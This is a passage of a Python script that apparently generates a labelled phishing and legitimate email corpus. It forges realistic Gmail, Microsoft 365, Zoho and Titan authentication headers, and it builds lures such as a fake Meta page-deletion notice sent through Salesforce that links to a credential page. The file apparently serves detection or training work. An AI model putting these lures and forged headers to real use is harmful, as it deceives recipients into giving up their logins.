        dm = f"dmarc=pass action=none\n header.from={fdom};compauth=pass reason=100"
    elif a.dmarc == "fail":
        act = {"reject": "oreject", "quarantine": "quarantine", "none": "none"}[a.policy]
        dm = f"dmarc=fail action={act}\n header.from={fdom};compauth=fail reason={'000' if a.policy != 'none' else '001'}"
    else:
        dm = f"dmarc=none action=none\n header.from={fdom};compauth=pass reason=109" if a.spf == "pass" or a.dkim == "pass" else \
            f"dmarc=none action=none\n header.from={fdom};compauth=softpass reason=201"
    return f"Authentication-Results: {spf}; {dk};{dm}", rspf


def _zoho_auth(s: Sender, a: Auth, fdom: str, from_addr: str, mx: str) -> str:
    zdom = "zohomail.eu" if mx.endswith(".eu") else "zohomail.com"
    parts = []
    for d, _sel in s.dkim:
        if a.dkim != "none":
            parts.append(f"dkim={a.dkim}  header.i={d}")
    if a.spf == "pass":
        parts.append(f"spf=pass (zohomail.com: domain of {_mf_domain(s.mailfrom)} designates {s.relay_ip} as permitted sender)  smtp.mailfrom={s.mailfrom}")
    else:
        parts.append(f"spf={a.spf} (zohomail.com: domain of {_mf_domain(s.mailfrom)} does not designate {s.relay_ip} as permitted sender)  smtp.mailfrom={s.mailfrom}")
    parts.append(f"dmarc={a.dmarc}(p={a.policy} dis=none) header.from=<{from_addr}>" if a.dmarc != "pass"
                 else f"dmarc=pass header.from=<{from_addr}>")
    return f"{mx};\n\t" + ";\n\t".join(parts).replace("zohomail.com:", f"{zdom}:")


def _country(s: Sender) -> str:
    host = s.relay_host.lower()
    for suffix, code in ((".de", "DE"), (".it", "IT"), (".fr", "FR"), (".es", "ES"), (".co.uk", "GB"), (".ch", "CH")):
        if host.endswith(suffix):
            return code
    if "eur0" in host or "eu-west-1" in host or "brevo" in host:
        return "IE" if "brevo" not in host else "FR"
    return "US"


def deliver(box: Box, s: Sender, a: Auth, from_header: str, when: datetime, seed: str, lang: str = "en-US") -> tuple[list[str], list[str]]:
    """Headers the recipient's provider adds: (above the message, below the message headers)."""
    fdom = _from_domain(from_header)
    m = re.search(r"<([^>]+)>", from_header)
    from_addr = m.group(1) if m else from_header
    r1, r2, r3 = plus(when, 0), plus(when, 1), plus(when, 2)
    top: list[str] = []
    bottom: list[str] = []
    rp = f"Return-Path: <{s.mailfrom}>"
    if box.kind == "google":
        auth = _google_auth(s, a, fdom, seed)
        arc = "arc-20240605" if when >= T("2024-06-10 00:00:00 +0000") else "arc-20160816"
        top += [
            f"Delivered-To: {box.addr}",
            f"Received: by 2002:a05:7{hexs(seed + 'g1', 3)}:{hexs(seed + 'g2', 4)}:b0:{hexs(seed + 'g3', 2)}:{hexs(seed + 'g3b', 4)}:{hexs(seed + 'g4', 4)} "
            f"with SMTP id {alnum(seed + 'g5', 1).lower()}{digits(seed + 'g6', 2)}csp{digits(seed + 'g7', 7)}{alnum(seed + 'g8', 3).lower()};\n"
            f"        {pacific(r3)}",
            f"X-Received: by 2002:a05:6{hexs(seed + 'h1', 3)}:{hexs(seed + 'h2', 4)}:b0:{hexs(seed + 'h3', 3)}:{hexs(seed + 'h3b', 4)}:{hexs(seed + 'h4', 4)} with SMTP id "
            f"{alnum(seed + 'h5', 1).lower()}{digits(seed + 'h5b', 2)}-20020a056{hexs(seed + 'h6', 11)}b0{hexs(seed + 'h7', 11)}mr{digits(seed + 'h8', 7)}{alnum(seed + 'h8b', 3).lower()}.{rint(seed, 4, 40)}.{epoch(r2)}{digits(seed + 'h9', 3)};\n"
            f"        {pacific(r2)}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(r1)}; cv=none;\n        d=google.com; s={arc};\n"
            + fold_b64("        b=", b64s(seed + "arcs", 342) + "==", 70, "         "),
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc};\n"
            f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
            f"        bh={b64s(seed + 'arcbh', 43)}=;\n        fh={b64s(seed + 'arcfh', 43)}=;\n"
            + fold_b64("        b=", b64s(seed + "arcb", 342) + "==", 70, "         "),
            f"ARC-Authentication-Results: i=1; mx.google.com;\n       {auth}",
            rp,
            f"Received: from {s.relay_host} ({s.relay_host}. [{s.relay_ip}])\n"
            f"        by mx.google.com with {'SMTPS' if 'sor' in s.relay_host else 'ESMTPS'} id "
            f"{hexs(seed + 'mxid', 13)}-{hexs(seed + 'mxid2', 11)}{'sor' if 'sor' in s.relay_host else 'si'}{digits(seed + 'mxid3', 7)}{alnum(seed + 'mxid4', 3).lower()}.{rint(seed + 'q', 1, 400)}.{r1.astimezone(timezone.utc).strftime('%Y.%m.%d.%H.%M.%S')}\n"
            f"        for <{box.addr}>\n"
            + ("        (Google Transport Security);\n" if "sor" in s.relay_host
               else "        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n")
            + f"        {pacific(r1)}",
        ]
        spf_word = {"pass": "pass", "fail": "fail", "softfail": "softfail", "neutral": "neutral", "none": "none"}[a.spf]
        if spf_word == "pass":
            top.append(f"Received-SPF: pass (google.com: domain of {s.mailfrom} designates {s.relay_ip} as permitted sender) client-ip={s.relay_ip};")
        elif spf_word in ("fail", "softfail"):
            top.append(f"Received-SPF: {spf_word} (google.com: domain of {'transitioning ' if spf_word == 'softfail' else ''}{s.mailfrom} does not designate {s.relay_ip} as permitted sender) client-ip={s.relay_ip};")
        else:
            top.append(f"Received-SPF: {spf_word} (google.com: domain of {s.mailfrom} does not designate permitted sender hosts) client-ip={s.relay_ip};")
        top.append(f"Authentication-Results: mx.google.com;\n       {auth}")
    elif box.kind == "m365":
        reg = box.region
        mbx = _ms_host(seed + "rmbx", reg).lower() if reg == "NAM" else _ms_host(seed + "rmbx", reg)
        fe = _ms_host(seed + "rfe", reg)
        fe = fe.replace("MB", "CA0", 1) if reg == "NAM" else fe.replace("MB", "CA0", 1)
        eop_code = f"{pick(seed + 'ep', ['BN2', 'CO1', 'SN1', 'BY1', 'DS3', 'CH1']) if reg == 'NAM' else pick(seed + 'ep', ['AM4', 'AMS0', 'DB1', 'DU2', 'FRA'])}PEPF0000{hexs(seed + 'eop', 4, True)}"
        eop_dom = "namprd04.prod.outlook.com" if reg == "NAM" else "eurprd04.prod.outlook.com"
        v = _exch_version(when)
        mbx_short = mbx.split(".")[0].upper()
        v6 = "2603:10b6" if reg == "NAM" else "2603:10a6"
        auth_line, rspf = _ms_auth(s, a, fdom)
        top += [
            f"Received: from {mbx_short}.{mbx.split('.', 1)[1]} ({v6}:{hexs(seed + 'v1', 3)}:{hexs(seed + 'v2', 2)}::{hexs(seed + 'v3', 2)}) by\n"
            f" {_ms_host(seed + 'rmbx2', reg)} with HTTPS; {utc(r3)}",
            f"Received: from {fe.split('.')[0]}.{fe.split('.', 1)[1]} ({v6}:{hexs(seed + 'w1', 3)}:{hexs(seed + 'w2', 2)}::{hexs(seed + 'w3', 2)})\n"
            f" by {mbx_short}.{mbx.split('.', 1)[1]} ({v6}:{hexs(seed + 'v1', 3)}:{hexs(seed + 'v2', 2)}::{hexs(seed + 'v3', 2)}) with\n"
            f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {v}; {utc(r2)}",
            f"Received: from {eop_code}.{eop_dom}\n ({v6}:{hexs(seed + 'w1', 3)}:{hexs(seed + 'w2', 2)}:cafe::{hexs(seed + 'w4', 2)}) by {fe.split('.')[0]}.outlook.office365.com\n"
            f" ({v6}:{hexs(seed + 'w1', 3)}:{hexs(seed + 'w2', 2)}::{hexs(seed + 'w3', 2)}) with Microsoft SMTP Server (version=TLS1_3,\n"
            f" cipher=TLS_AES_256_GCM_SHA384) id {v} via Frontend Transport; {utc(r2)}",
            auth_line,
            rspf,
            f"Received: from {s.relay_host} ({s.relay_ip}) by\n {eop_code}.mail.protection.outlook.com (10.167.{rint(seed + 'i1', 240, 250)}.{rint(seed + 'i2', 2, 250)}) with Microsoft SMTP\n"
            f" Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {v}\n via Frontend Transport; {utc(r1)}",
        ]
        nmid = uuid(seed + "nmid")
        tenant = uuid(box.domain + "tenant")
        spam = a.scl >= 5
        bottom += [
            rp,
            f"X-MS-Exchange-Organization-ExpirationStartTime: {ms_time(r1, seed + 'e1')}",
            "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
            "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
            "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
            f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
            "X-EOPAttributedMessage: 0",
            f"X-EOPTenantAttributedMessage: {tenant}:0",
            "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
            "X-MS-PublicTrafficType: Email",
            f"X-MS-TrafficTypeDiagnostic:\n {eop_code}:EE_|{mbx_short}:EE_|{_ms_host(seed + 'rmbx2', reg).split('.')[0]}:EE_",
            f"X-MS-Exchange-Organization-AuthSource:\n {eop_code}.{eop_dom}",
            "X-MS-Exchange-Organization-AuthAs: Anonymous",
            f"X-MS-Office365-Filtering-Correlation-Id: {uuid(seed + 'corr')}",
            f"X-MS-Exchange-Organization-SCL: {a.scl}",
            f"X-Microsoft-Antispam: BCL:{a.bcl};ARA:13230040|{rint(seed + 'ara', 1000000, 9999999)}|{rint(seed + 'ara2', 100000, 999999)}|{rint(seed + 'ara3', 10000, 99999)}|8096899003;",
            f"X-Forefront-Antispam-Report:\n CIP:{s.relay_ip};CTRY:{_country(s)};LANG:{lang.split('-')[0]};SCL:{a.scl};SRV:{'BULK' if a.bcl >= 6 else ''};IPV:NLI;SFV:{'SPM' if spam else 'NSPM'};H:{s.helo};PTR:{s.relay_host};CAT:{'SPM' if spam else 'NONE'};SFS:(13230040)({rint(seed + 'sfs', 1000000, 9999999)})(8096899003);DIR:INB;",
            f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {ms_time(r1, seed + 'e2')}",
            f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
            f"X-MS-Exchange-CrossTenant-Id: {tenant}",
            f"X-MS-Exchange-CrossTenant-AuthSource:\n {eop_code}.{eop_dom}",
            "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
            "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
            f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx_short}",
            f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{rint(seed + 'lat', 1, 4)}.{digits(seed + 'lat2', 7)}",
            f"X-MS-Exchange-Processed-By-BccFoldering: {v}",
            f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:{'J' if spam else 'I'};ENG:(910005)(944506478)(944626604)(920097)(930097)(140003);",
        ]
    elif box.kind in ("zoho", "zoho_eu"):
        mx = "mx.zoho.eu" if box.kind == "zoho_eu" else "mx.zohomail.com"
        zd = "zohomail.eu" if box.kind == "zoho_eu" else "zohomail.com"
        auth = _zoho_auth(s, a, fdom, from_addr, mx)
        zone = fmt(r1, 1 if not (3 < r1.month < 11) else 2, "") if box.kind == "zoho_eu" else pacific(r1)
        top += [
            f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(r1)}; cv=none; \n\td={zd}; s=zohoarc; \n" + fold_b64("\tb=", b64s(seed + "zs", 342) + "==", 70, "\t"),
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d={zd}; s=zohoarc; \n\tt={epoch(r1)}; h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To; \n"
            f"\tbh={b64s(seed + 'zbh', 43)}=; \n" + fold_b64("\tb=", b64s(seed + "zb", 342) + "==", 70, "\t"),
            f"ARC-Authentication-Results: i=1; {auth}",
            f"Authentication-Results: {auth}",
            f"Delivered-To: {box.addr}",
            (f"Received-SPF: {a.spf} ({zd}: domain of {_mf_domain(s.mailfrom)} {'designates' if a.spf == 'pass' else 'does not designate'} {s.relay_ip} as permitted sender) "
             f"client-ip={s.relay_ip}; envelope-from={s.mailfrom}; helo={s.helo};"),
            f"Received: from {s.relay_host} ({s.relay_host} [{s.relay_ip}]) by {mx}\n\twith SMTPS id {epoch(r1)}{digits(seed + 'zid', 3)}{digits(seed + 'zid1', 6)}.{digits(seed + 'zid2', 4)}; {zone}",
            rp,
        ]
    elif box.kind == "titan":
        mxn = rint(seed + "tmx", 1, 2)
        dk_parts = []
        for d, sel in s.dkim:
            if a.dkim != "none":
                dk_parts.append(f"dkim={a.dkim} (2048-bit key; unprotected) header.d={d} header.i=@{d} header.a=rsa-sha256 header.s={sel} header.b={alnum(seed + d, 8)}")
        if not dk_parts:
            dk_parts.append("dkim=none")
        dm = f"dmarc={a.dmarc} (p={a.policy} dis=none) header.from={fdom}"
        spf = f"spf={a.spf} smtp.mailfrom={s.mailfrom} smtp.helo={s.helo}"
        qid = alnum(seed + "tq", 11)
        top += [
            rp,
            f"Delivered-To: {box.addr}",
            f"Received: from mx{mxn}.titan.email\n\tby imap-{rint(seed + 'tim', 10, 80)}.titan.email with LMTP\n\tid {b64s(seed + 'lmtp', 22).replace('/', 'A')}\n\t(envelope-from <{s.mailfrom}>)\n\tfor <{box.addr}>; {utc(r3)}",
            f"Received: from localhost (localhost [127.0.0.1])\n\tby mx{mxn}.titan.email (Postfix) with ESMTP id 4{qid}\n\tfor <{box.addr}>; {utc(r2)}",
            f"Authentication-Results: mx{mxn}.titan.email;\n\t" + ";\n\t".join(dk_parts + [dm, spf]),
            f"Received: from {s.relay_host} ({s.relay_host} [{s.relay_ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
            f"\t(No client certificate requested)\n\tby mx{mxn}.titan.email (Postfix) with ESMTPS id 4{qid}\n\tfor <{box.addr}>; {utc(r1, True)}",
        ]
        if a.scl >= 5:
            top.insert(2, f"X-Spam-Flag: YES\nX-Spam-Score: 6.{rint(seed + 'ss', 1, 9)}")
    return top, bottom


# --------------------------------------------------------------------------------------------
# Bodies
# --------------------------------------------------------------------------------------------


def bnd(style: str, seed: str) -> str:
    if style == "gmail":
        return "0000000000" + hexs(seed, 18)
    if style == "outlook":
        return f"_000_{hexs(seed, 24, True)}PROD_"
    if style == "outlook_mixed":
        return f"_004_{hexs(seed, 24, True)}PROD_"
    if style == "sg":
        return hexs(seed, 64)
    if style == "java":
        return f"----=_Part_{rint(seed, 100000, 999999)}_{rint(seed + 'b', 100000000, 999999999)}.{rint(seed + 'c', 1700000000000, 1790000000000)}"
    if style == "php":
        return f"b1=_{alnum(seed, 43)}"
    if style == "zoho":
        return f"=_{alnum(seed, 6)}_{hexs(seed + 'z', 16)}"
    if style == "apple":
        return f"Apple-Mail={uuid(seed, True)}"
    if style == "mg":
        return hexs(seed, 32)
    if style == "fb":
        return f"b1_{alnum(seed, 43)}"
    return f"----=_NextPart_{hexs(seed, 3, True)}_{hexs(seed + '2', 4, True)}_{hexs(seed + '3', 8, True)}.{hexs(seed + '4', 8, True)}"


def to_plain(markup: str) -> str:
    s = re.sub(r"(?is)<(style|head|script|title)\b.*?</\1>", "", markup)
    s = re.sub(r"(?is)<img\b[^>]*>", "", s)

    def link(m: re.Match) -> str:
        label = re.sub(r"<[^>]+>", "", m.group(2)).strip()
        url = m.group(1)
        if not label:
            return ""
        if label == url or url.startswith("mailto:") or url.startswith("tel:"):
            return label
        return f"{label} [{url}]"

    s = re.sub(r'(?is)<a\b[^>]*?href="([^"]+)"[^>]*>(.*?)</a>', link, s)
    s = re.sub(r"(?i)<br\s*/?>", "\n", s)
    s = re.sub(r"(?i)</(p|h[1-6]|table)>", "\n\n", s)
    s = re.sub(r"(?i)</(div|tr|li|td)>", "\n", s)
    s = re.sub(r"(?i)<li[^>]*>", "* ", s)
    s = re.sub(r"<[^>]+>", "", s)
    s = htmlmod.unescape(s).replace("\xa0", " ")
    lines = [re.sub(r"[ \t]+", " ", line).strip() for line in s.split("\n")]
    out: list[str] = []
    for line in lines:
        if line or (out and out[-1]):
            out.append(line)
    return "\n".join(out).strip() + "\n"


def alt(plain: str, markup: str, seed: str, style: str = "gmail", encoding: str = "quoted-printable",
        charset: str = "utf-8", html_encoding: str | None = None) -> Multi:
    return Multi("alternative", bnd(style, seed + "alt"), [
        text(plain, "plain", encoding, charset),
        text(markup, "html", html_encoding or encoding, charset),
    ])


def esc(value: str) -> str:
    return htmlmod.escape(value, quote=False)


def card(*, brand: str, color: str, heading: str, paras: list[str], button: tuple[str, str] | None = None,
         footer: list[str] | None = None, logo: str | None = None, preheader: str = "", pixel: str | None = None,
         font: str = "Helvetica, Arial, sans-serif", width: int = 600, bg: str = "#f4f5f7", lang: str = "en",
         after_button: list[str] | None = None, title: str | None = None) -> str:
    """A table-layout transactional e-mail, as platform senders (and the kits that copy them) write them."""
    logo_html = (f'<img src="{logo}" alt="{esc(brand)}" width="120" style="display:block;border:0;outline:none;max-width:120px">'
                 if logo else f'<span style="font-size:22px;font-weight:700;color:{color};letter-spacing:-0.3px">{esc(brand)}</span>')
    body = "".join(f'<p style="margin:0 0 16px 0;font-size:15px;line-height:22px;color:#1c1e21">{p}</p>' for p in paras)
    btn = ""
    if button:
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:8px 0 24px 0"><tr>'
               f'<td align="center" bgcolor="{color}" style="border-radius:6px">'
               f'<a href="{button[1]}" target="_blank" style="display:inline-block;padding:12px 28px;font-size:15px;font-weight:600;'
               f'color:#ffffff;text-decoration:none;border-radius:6px">{esc(button[0])}</a></td></tr></table>')
    more = "".join(f'<p style="margin:0 0 16px 0;font-size:15px;line-height:22px;color:#1c1e21">{p}</p>' for p in (after_button or []))
    foot = "".join(f'<p style="margin:0 0 8px 0;font-size:12px;line-height:18px;color:#8a8d91">{f}</p>' for f in (footer or []))
    pix = f'<img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0;width:1px;height:1px">' if pixel else ""
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">{esc(preheader)}'
           f'&nbsp;&#847;&nbsp;&#847;&nbsp;&#847;&nbsp;&#847;</div>') if preheader else ""
    return f"""<!DOCTYPE html>
<html lang="{lang}" xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{esc(title or heading)}</title>
<style type="text/css">
body{{margin:0;padding:0;-webkit-text-size-adjust:100%}} table{{border-collapse:collapse}}
@media only screen and (max-width:620px){{ .wrap{{width:100% !important}} .pad{{padding:20px !important}} }}
</style>
</head>
<body style="margin:0;padding:0;background-color:{bg}">
{pre}<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="{bg}">
<tr><td align="center" style="padding:24px 12px">
<table role="presentation" class="wrap" width="{width}" cellpadding="0" cellspacing="0" border="0" style="width:{width}px;font-family:{font}">
<tr><td style="padding:8px 0 20px 0">{logo_html}</td></tr>
<tr><td class="pad" bgcolor="#ffffff" style="background:#ffffff;border-radius:8px;padding:32px 36px">
<h1 style="margin:0 0 20px 0;font-size:22px;line-height:28px;font-weight:700;color:#1c1e21">{heading}</h1>
{body}{btn}{more}
</td></tr>
<tr><td style="padding:20px 36px">{foot}</td></tr>
</table>
</td></tr>
</table>
{pix}</body>
</html>
"""


def simple_html(paras: list[str], font: str = "Arial, sans-serif", size: str = "10pt", signature: str = "") -> str:
    inner = "".join(f"<div>{p}</div><div><br></div>" for p in paras)
    return (f'<div dir="ltr"><div style="font-family:{font};font-size:{size}">{inner}</div>'
            + (f'<div><br></div><div dir="ltr" class="gmail_signature">{signature}</div>' if signature else "")
            + "</div>\n")


def outlook_html(paras: list[str], signature: str = "", font: str = "Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif") -> str:
    inner = "".join(f'<div class="elementToProof" style="font-family: {font}; font-size: 12pt; color: rgb(0, 0, 0);">{p}</div>\n'
                    f'<div class="elementToProof" style="font-family: {font}; font-size: 12pt; color: rgb(0, 0, 0);"><br></div>\n' for p in paras)
    sig = f'<div id="Signature"><div style="font-family: {font}; font-size: 11pt; color: rgb(0, 0, 0);">{signature}</div></div>\n' if signature else ""
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n</head>\n'
            f'<body dir="ltr">\n{inner}{sig}</body>\n</html>\n')


# --------------------------------------------------------------------------------------------
# Password-protected ZIP (traditional PKWARE encryption), deterministic
# --------------------------------------------------------------------------------------------

_CRC = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRC.append(_c)


def _crc_step(crc: int, byte: int) -> int:
    return _CRC[(crc ^ byte) & 0xFF] ^ (crc >> 8)


def zipcrypto(members: list[tuple[str, bytes]], password: str, seed: str) -> bytes:
    y, mo, d, hh, mm, ss = files.FIXED_DATE
    dos_time = (hh << 11) | (mm << 5) | (ss // 2)
    dos_date = ((y - 1980) << 9) | (mo << 5) | d
    out = bytearray()
    central = bytearray()
    for name, data in members:
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        cdata = comp.compress(data) + comp.flush()
        keys = [0x12345678, 0x23456789, 0x34567890]

        def update(c: int) -> None:
            keys[0] = _crc_step(keys[0], c)
            keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
            keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
            keys[2] = _crc_step(keys[2], keys[1] >> 24)

        for ch in password.encode():
            update(ch)

        def encrypt(buf: bytes) -> bytes:
            res = bytearray()
            for c in buf:
                k = (keys[2] | 2) & 0xFFFF
                res.append(c ^ (((k * (k ^ 1)) >> 8) & 0xFF))
                update(c)
            return bytes(res)

        head = _stream(seed + name, 11) + bytes([crc >> 24])
        payload = encrypt(head) + encrypt(cdata)
        nb = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x0001, 8, dos_time, dos_date, crc, len(payload), len(data), len(nb), 0) + nb
        out += payload
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x0001, 8, dos_time, dos_date, crc, len(payload),
                               len(data), len(nb), 0, 0, 0, 0, 0x20, offset) + nb
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), start, 0)
    return bytes(out)


# --------------------------------------------------------------------------------------------
# Assembly
# --------------------------------------------------------------------------------------------

MESSAGES: list[tuple[str, str, str, bytes]] = []


def build(stem: str, folder: str, desc: str, box: Box, s: Sender, a: Auth, *, frm: str, subject: str, sent: datetime,
          body, to: str | None = None, reply_to: str | None = None, extra: list[str] | None = None,
          order: str = "std", delay: float = 3, lang: str = "en-US", has_attach: bool = False, cc: str | None = None,
          in_reply_to: str | None = None, references: str | None = None, msgid: str | None = None,
          rcpt_override: str | None = None) -> None:
    assert stem.startswith(f"{PREFIX}-phish-") or stem.startswith(f"{PREFIX}-legit-"), stem
    seed = stem
    if s.after and s.after[0].startswith("Thread-Topic"):
        order = "outlook"
    when = plus(sent, delay)
    rcpt = rcpt_override or box.addr
    mailfrom = s.mailfrom.replace("{rcpt}", rcpt.replace("@", "="))
    s = Sender(mailfrom, s.relay_host, s.relay_ip, s.helo,
               [t.replace("{rcpt_addr}", rcpt).replace("{sender_local}", "postmaster") for t in s.trace],
               s.dkim, s.msgid, s.after)
    top, bottom = deliver(box, s, a, frm, when, seed, lang)
    subj = enc(subject)
    mid = msgid or s.msgid
    to_line = to or box.to
    core: list[str] = []
    if order == "gmail":
        core += ["MIME-Version: 1.0"]
        if references:
            core.append(f"References: {references}")
        if in_reply_to:
            core.append(f"In-Reply-To: {in_reply_to}")
        core += [f"From: {frm}", f"Date: {fmt(sent)}", f"Message-ID: {mid}", f"Subject: {subj}", f"To: {to_line}"]
        if cc:
            core.append(f"Cc: {cc}")
        if reply_to:
            core.append(f"Reply-To: {reply_to}")
    elif order == "outlook":
        core += [f"From: {frm}", f"To: {to_line}"]
        if cc:
            core.append(f"CC: {cc}")
        core += [f"Subject: {subj}"]
        for line in s.after:
            core.append(line.replace("{subject}", subj.replace("\n ", " ") if "=?" not in subj else subj)
                        .replace("{has_attach}", "yes" if has_attach else "")
                        .replace("{lang}", lang))
        core += [f"Date: {fmt(sent)}", f"Message-ID: {mid}"]
        if references:
            core.append(f"References: {references}")
        if in_reply_to:
            core.append(f"In-Reply-To: {in_reply_to}")
        if reply_to:
            core.append(f"Reply-To: {reply_to}")
    else:
        core += [f"From: {frm}"]
        if reply_to:
            core.append(f"Reply-To: {reply_to}")
        core += [f"To: {to_line}"]
        if cc:
            core.append(f"Cc: {cc}")
        core += [f"Subject: {subj}", f"Date: {fmt(sent)}", f"Message-ID: {mid}"]
        if references:
            core.append(f"References: {references}")
        if in_reply_to:
            core.append(f"In-Reply-To: {in_reply_to}")
        if order != "outlook":
            core += [x for x in s.after]
    core += extra or []
    headers = top + s.trace + core + bottom
    if not any(h.lower().startswith("mime-version:") for h in headers):
        headers.append("MIME-Version: 1.0")
    raw = message("\n".join(headers), body)
    MESSAGES.append((stem, folder, desc, raw))



# ============================================================================================
# ATTACKS
# ============================================================================================

META_FOOT = ["This message was sent to {rcpt}.", "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025"]


def a01_meta_salesforce() -> None:
    stem = f"{PREFIX}-phish-meta-page-deletion-salesforce"
    sent = T("2024-08-14 16:22:07 +0000")
    case = "2307-849-5512"
    url = "https://meta-appeal-center-case.vercel.app/review?case=2307849551&page=taqueriaelnopal"
    inner = (f"Received: from [10.180.{rint(stem, 1, 250)}.{rint(stem + 'x', 1, 250)}] ([10.180.{rint(stem, 1, 250)}.{rint(stem + 'x', 1, 250)}:{rint(stem + 'p', 30000, 60000)}] "
             f"helo=na224-app2-18-ia6.ops.sfdc.net)\n\tby mx1-ia6-sp3.mta.salesforce.com (envelope-from <bounce-{hexs(stem + 'bn', 16)}@bnc.salesforce.com>)\n"
             f"\t(ecelerity 4.5.0.68741 r(msys-ecelerity:tags/4.5.0.2^0)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384\n"
             f"\tsubject=\"/C=US/ST=California/L=San Francisco/O=salesforce.com, inc./OU=0:app;1:ia6;2:ia6-sp3;3:na224;4:prod/CN=na224-app2-18-ia6.ops.sfdc.net\")\n"
             f"\t id {hexs(stem + 'eid', 2).upper()}/{hexs(stem + 'e2', 2).upper()}-{digits(stem + 'e3', 5)}-{hexs(stem + 'e4', 8).upper()}; {fmt(sent, 0)}")
    s = custom(f"bounce-{hexs(stem + 'bn', 16)}@bnc.salesforce.com", "smtp11-ia6-sp3.mta.salesforce.com", "13.110.230.45",
               [dkim_header("salesforce.com", "sf112023", stem + "sf", sent,
                            "Date:From:To:Subject:MIME-Version:Content-Type;"), inner],
               [("salesforce.com", "sf112023")], f"<{alnum(stem + 'm', 20)}000000000000000000000000000000000000000000000{alnum(stem + 'm2', 18)}@sfdc.net>",
               after=[f"X-SFDC-LK: 00D{alnum(stem + 'lk', 12)}", f"X-SFDC-User: 005{alnum(stem + 'u', 12)}",
                      "X-Sender: postmaster@salesforce.com", "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp",
                      "X-SFDC-TLS-NoRelay: 1", f"X-SFDC-Binding: {alnum(stem + 'bind', 16)}", "X-SFDC-EmailCategory: apiSingleMail",
                      "X-SFDC-Interface: internal"])
    frm = addr("Meta for Business", "noreply@salesforce.com")
    markup = card(brand="Meta", color="#0866ff", heading="Your Page is scheduled for permanent deletion",
                  preheader="Case #" + case + " - action is required within 24 hours",
                  paras=["Hi Luis Garza,",
                         "We've received multiple reports that your Page <b>Taquería El Nopal</b> is using a name and images that belong to another business. "
                         "After reviewing your Page, our team determined that it doesn't follow our "
                         "<a href=\"https://transparency.meta.com/policies/community-standards/\" style=\"color:#0866ff\">Community Standards</a> on intellectual property.",
                         f"Your Page has been scheduled for permanent deletion. If you believe this is a mistake, you can submit an appeal. "
                         f"Appeals must be submitted within <b>24 hours</b> of receiving this notice, otherwise the decision will be final.",
                         f"Case number: <b>#{case}</b>"],
                  button=("Request review", url),
                  after_button=["Thanks,<br>The Meta Business Support team"],
                  footer=["This message was sent to luis@elnopalatx.com.",
                          "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Meta 'page scheduled for permanent deletion' lure sent to a taqueria through Salesforce's genuine mail service "
          "(noreply@salesforce.com passes SPF/DKIM/DMARC) with the appeal button on a vercel.app credential page.",
          NOPAL, s, Auth(policy="reject"), frm=frm, subject=f"Your Page has been scheduled for permanent deletion [Case #{case}]",
          sent=sent, body=body)


def a02_meta_business_verification() -> None:
    stem = f"{PREFIX}-phish-meta-business-verification"
    sent = T("2025-02-06 09:41:55 -0500")
    s = postfix("mail.meta-businesshelp.com", "45.141.87.214", "bounce@meta-businesshelp.com", "meta-businesshelp.com", sent, stem,
                selector="mail")
    url = "https://business-verification-meta.pages.dev/verify?bm_id=1049382217755108&src=email"
    markup = card(brand="Meta", color="#0866ff", heading="Verify your business to keep access to Meta Business Suite",
                  preheader="Studio Lumen Salon has 72 hours to complete verification",
                  paras=["Hello Studio Lumen Salon,",
